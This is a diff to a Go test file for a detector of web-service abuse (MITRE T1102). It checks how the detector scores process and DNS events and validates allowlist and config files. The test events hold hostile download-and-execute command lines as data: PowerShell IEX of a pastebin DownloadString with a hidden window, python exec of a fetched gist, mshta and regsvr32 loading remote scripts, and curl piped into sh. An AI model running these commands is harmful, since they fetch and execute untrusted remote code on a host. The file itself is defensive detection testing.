@@ -287,8 +287,17 @@ func TestDetector(t *testing.T) {
 		},
 		{
 			name: "github raw path", reason: "/raw/ comes after /owner/repo/ on github.com",
-			ev:    Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/raw/main/p.ps1")},
 			check: func(t *testing.T, r *Result) { require.True(t, r.RawContent); require.True(t, r.Pass) },
+		},
+		{
+			name: "release asset", reason: "a release download is an artifact, not raw content: it lowers the risk and does not pass for an unknown process",
+			ev: Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
+			check: func(t *testing.T, r *Result) {
+				require.False(t, r.RawContent)
+				require.False(t, r.Pass)
+				require.Equal(t, "artifact_download", r.ContextKind)
+			},
 		},
 		{
 			name: "raw content on a later host", reason: "an innocent first URL does not hide a raw fetch after it",
@@ -361,6 +370,157 @@ func TestDetector(t *testing.T) {
 			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category); require.True(t, r.Pass) },
 		},
 		{
+			name: "command line on a network event", reason: "a connection enriched with its process's fields (join ProcessGuid, a data model) is read whole, as the original SPL read it",
+			ev: Event{EventCode: b("3"), Image: b(`C:\x\powershell.exe`), DestinationHostname: b("github.com"),
+				CommandLine: b("powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA")},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.Encoded, "the original says is_encoded=1 here")
+				require.Equal(t, "DestinationHostname", r.SeenIn)
+				require.Equal(t, "Invoke-Expression of fetched content", r.DownloadExecute)
+			},
+		},
+		{
+			name: "command line on a dns event", reason: "the same for EventID 22",
+			ev: Event{EventCode: b("22"), Image: b(`C:\x\curl.exe`), QueryName: b("api.telegram.org"), CommandLine: b(`curl -s https://api.telegram.org/bot1:AA/getUpdates -o %TEMP%\u.json`)},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.CommandEndpoint)
+				require.Equal(t, "%temp%", r.TempPlace)
+			},
+		},
+		{
+			name: "iex of a paste", reason: "download and execute, a command endpoint and a hidden window: the Atomic pastebin test",
+			ev: Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`),
+				CommandLine: b(`powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/x')"`)},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "Invoke-Expression of fetched content", r.DownloadExecute)
+				require.True(t, r.CommandEndpoint)
+				require.True(t, r.HiddenWindow)
+				require.Contains(t, strs(r.Reasons), "runs what it fetches: Invoke-Expression of fetched content")
+				require.Contains(t, strs(r.Reasons), "command endpoint on pastebin.com")
+				require.Equal(t, 100, r.RiskScore)
+			},
+		},
+		{
+			name: "python exec of a fetched body", reason: "exec( with urlopen in a one-liner",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Python311\python.exe`),
+				CommandLine: b(`python -c "import urllib.request as u;exec(u.urlopen('https://gist.githubusercontent.com/a/b/raw/c').read())"`)},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "eval of a fetched body", r.DownloadExecute)
+				require.True(t, r.CommandEndpoint, "gist raw files hand out commands")
+			},
+		},
+		{
+			name: "mshta on a url", reason: "mshta given a URL runs what it fetches",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\mshta.exe`), CommandLine: b(`mshta.exe https://pastebin.com/raw/x`)},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "mshta on a URL", r.DownloadExecute) },
+		},
+		{
+			name: "regsvr32 scriptlet", reason: "/i: with a URL runs a remote scriptlet",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\regsvr32.exe`), CommandLine: b(`regsvr32 /s /n /u /i:https://raw.githubusercontent.com/x/y.sct scrobj.dll`)},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "script run from a URL", r.DownloadExecute) },
+		},
+		{
+			name: "curl piped into sh", reason: "a download piped into an interpreter",
+			ev: Event{EventCode: b("1"), Image: b(`/usr/bin/bash`), CommandLine: b(`bash -c "curl -fsSL https://raw.githubusercontent.com/x/y/main/i.sh | sh"`)},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "download piped into an interpreter", r.DownloadExecute)
+			},
+		},
+		{
+			name: "iex of a local file", reason: "Invoke-Expression of nothing fetched is not download-and-execute",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -c "Get-Content C:\s\github.com.ps1 | iex"`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
+		},
+		{
+			name: "index is not iex", reason: "words, not substrings",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -c "$index = iwr https://github.com/a/b"`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
+		},
+		{
+			name: "window style abbreviations", reason: "-win 1 is -WindowStyle Hidden",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), CommandLine: b(`cmd /c powershell -win 1 -c iwr https://github.com/a/b`)},
+			check: func(t *testing.T, r *Result) { require.True(t, r.HiddenWindow) },
+		},
+		{
+			name: "curl write-out is not a window", reason: "-w belongs to curl here, not PowerShell",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b(`curl -w 1 https://github.com/a/b`)},
+			check: func(t *testing.T, r *Result) { require.False(t, r.HiddenWindow) },
+		},
+		{
+			name: "normal window", reason: "-WindowStyle Normal is not hidden",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -WindowStyle Normal -c iwr https://github.com/a/b`)},
+			check: func(t *testing.T, r *Result) { require.False(t, r.HiddenWindow) },
+		},
+		{
+			name: "no service, no retrieval signals", reason: "the signals say what a process does with a web service's content; without a service they are not looked for",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell -w hidden -c "iex (iwr https://intranet.example/s.ps1)"`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute); require.False(t, r.HiddenWindow) },
+		},
+		{
+			name: "defender name outside defender's folder", reason: "a file named MsMpEng.exe in C:\\Users\\Public fetching a paste is not Defender (issue 12's evasion)",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Users\Public\MsMpEng.exe`),
+				CommandLine: b(`MsMpEng.exe -c "iex(iwr https://pastebin.com/raw/abc)"`)},
+			check: func(t *testing.T, r *Result) {
+				require.False(t, r.Allowlisted)
+				require.True(t, r.Pass, "it fetches raw content itself")
+				require.Equal(t, "t1102_allowlist.csv:15", r.UnexpectedPath)
+				require.Contains(t, strs(r.Reasons), "msmpeng.exe outside its expected path (t1102_allowlist.csv:15)")
+				require.GreaterOrEqual(t, r.RiskScore, 40)
+			},
+		},
+		{
+			name: "defender reaching a paste", reason: "Defender's rule names the domains it is seen to resolve; a paste is not one of them",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2009.7-0\MsMpEng.exe`), QueryName: b("pastebin.com")},
+			check: func(t *testing.T, r *Result) { require.False(t, r.Allowlisted); require.Empty(t, r.UnexpectedPath) },
+		},
+		{
+			name: "npm resolving a github dependency", reason: "package-manager context lowers the risk and keeps the row",
+			ev: Event{EventCode: b("22"), Image: b(`C:\Program Files\nodejs\node.exe`), QueryName: b("codeload.github.com"),
+				CommandLine: b(`"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install`)},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "package_manager", r.ContextKind)
+				require.Equal(t, "github", r.Category)
+				require.True(t, r.Pass, "context never hides")
+				require.Zero(t, r.RiskScore)
+			},
+		},
+		{
+			name: "puppet's ruby", reason: "an IT agent by its install path",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), QueryName: b("raw.githubusercontent.com")},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "it_agent", r.ContextKind) },
+		},
+		{
+			name: "ruby elsewhere", reason: "the same ruby.exe outside Puppet's folder gets no context",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\Users\Public\Puppet Labs\ruby.exe`), QueryName: b("raw.githubusercontent.com")},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind) },
+		},
+		{
+			name: "renamed binary gets no context", reason: "a renamed binary never benefits",
+			ev: Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), OriginalFileName: b("PowerShell.EXE"),
+				QueryName: b("raw.githubusercontent.com")},
+			check: func(t *testing.T, r *Result) {
+				require.Empty(t, r.ContextKind)
+				require.Equal(t, "powershell.exe", r.PEName)
+			},
+		},
+		{
+			name: "artifact url with a paste", reason: "every URL must be an artifact for the artifact context",
+			ev: Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`),
+				CommandLine: b(`curl -LO https://github.com/a/b/releases/download/v1/t.zip https://pastebin.com/raw/x`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind) },
+		},
+		{
+			name: "polling", reason: "t1102correlate's evidence weighs in detect",
+			ev: Event{Image: b(`C:\x\python.exe`), QueryName: b("raw.githubusercontent.com"),
+				Poll: &Polling{Host: "raw.githubusercontent.com", Interval: 30.0021, Requests: 3, Regularity: 1}},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.Polled)
+				require.Contains(t, strs(r.Reasons), "polls raw.githubusercontent.com every 30 s (3 requests, regularity 1)")
+				w := shipped(t, WebServicesFile).Weights()
+				require.Equal(t, w.Service+w.RawContent+w.Class["script_engine"]+w.TagCC+w.Polling, r.RiskScore)
+			},
+		},
+		{
 			name: "multivalue host", reason: "a multivalue field arrives as values joined by newlines; each is a host",
 			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b("curl https://example.org/a\nhttps://pastebin.com/raw/b")},
 			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category) },
@@ -394,9 +554,12 @@ func TestCatalogErrors(t *testing.T) {
 			"lookups/" + WebServicesFile: "domain,category\ngithub.com,github\n",
 			"lookups/" + ProcessesFile:   "name,class\npowershell.exe,script_engine\n",
 			"lookups/" + ParentsFile:     "name,class\nsvchost.exe,service\n",
-			"lookups/" + AllowlistFile:   "host,user,process,domain\n",
+			"lookups/" + AllowlistFile:   "host,user,process,path,pe_name,domain\n",
+			"lookups/" + ContextFile:     "kind,process,path,parent_path,command_line,url,user\nit_agent,ruby.exe,C:\\Puppet\\*\\ruby.exe,,,,\n",
 			"lookups/" + NotEvidenceFile: "domain\n1e100.net\n",
-			"default/" + ConfFile:        "[risk]\nservice=1\nraw_content=1\nsuspicious_process=1\nrenamed_binary=1\nencoded=1\noffice_parent=1\nservice_spawn=1\ncommand_line_url=1\ntag_cc=1\npolling=1\n",
+			"default/" + ConfFile: "[risk]\nservice=1\nraw_content=1\ncommand_endpoint=1\nrenamed_binary=1\nencoded=1\noffice_parent=1\nservice_spawn=1\n" +
+				"command_line_url=1\ntag_cc=1\ndownload_execute=1\nhidden_window=1\ntemp_file=1\nunexpected_path=1\npolling=1\n" +
+				"[process_class]\nscript_engine=1\n[context]\nit_agent=1\n",
 		}
 		for k, v := range files {
 			base[k] = v
@@ -418,7 +581,15 @@ func TestCatalogErrors(t *testing.T) {
 		{"bad domain", "not a domain", map[string]string{"lookups/" + WebServicesFile: "domain,category\ngithub.com,github\nnot a domain,x\n"}, WebServicesFile + ":3:"},
 		{"missing column", "header without category", map[string]string{"lookups/" + WebServicesFile: "domain\ngithub.com\n"}, `no column "category"`},
 		{"bad parent class", "office or service only", map[string]string{"lookups/" + ParentsFile: "name,class\nx.exe,weird\n"}, ParentsFile + ":2:"},
-		{"allow everything", "an empty rule", map[string]string{"lookups/" + AllowlistFile: "host,user,process,domain\n,,,\n"}, AllowlistFile + ":2:"},
+		{"allow everything", "an empty rule", map[string]string{"lookups/" + AllowlistFile: "host,user,process,path,pe_name,domain\n,,,,,\n"}, AllowlistFile + ":2:"},
+		{"allow every service", "a rule without a domain allowed every service a program reached", map[string]string{"lookups/" + AllowlistFile: "host,user,process,path,pe_name,domain\n,,msmpeng.exe,,,\n"}, "would allow every service"},
+		{"allow every process", "a domain alone allows whoever reaches it", map[string]string{"lookups/" + AllowlistFile: "host,user,process,path,pe_name,domain\n,,,,,github.com\n"}, "every process"},
+		{"allow path of only stars", "a pattern that matches everything is no path condition", map[string]string{"lookups/" + AllowlistFile: "host,user,process,path,pe_name,domain\n,,git.exe,**,,github.com\n"}, AllowlistFile + ":2:"},
+		{"old allowlist header", "a user's copy without the path columns is refused, not read with every rule widened", map[string]string{"lookups/" + AllowlistFile: "host,user,process,domain\n"}, `no column "path"`},
+		{"context by name only", "a file name is anybody's to take", map[string]string{"lookups/" + ContextFile: "kind,process,path,parent_path,command_line,url,user\nit_agent,ruby.exe,,,,,\n"}, ContextFile + ":2:"},
+		{"context kind without weight", "a kind with no [context] weight would take nothing off", map[string]string{"lookups/" + ContextFile: "kind,process,path,parent_path,command_line,url,user\nvcs,git.exe,C:\\Git\\*,,,,\n"}, `"vcs", which has no weight in [context]`},
+		{"class without weight", "a process class with no [process_class] weight would weigh nothing", map[string]string{"lookups/" + ProcessesFile: "name,class\nx.exe,lolbin\n"}, `"lolbin", which has no weight in [process_class]`},
+		{"class weight out of range", "0 to 100 in every stanza", map[string]string{"local/" + ConfFile: "[process_class]\nscript_engine = -5\n"}, "[process_class] script_engine"},
 		{"weight out of range", "0 to 100", map[string]string{"local/" + ConfFile: "[risk]\n\nencoded = 500\n"}, "local/" + ConfFile + ":3:"},
 		{"unknown weight", "typos are errors", map[string]string{"local/" + ConfFile: "[risk]\nencode = 5\n"}, `unknown key "encode"`},
 		{"missing weight", "defaults are all in the default file", map[string]string{"default/" + ConfFile: "[risk]\nservice=1\n"}, "has no raw_content"},
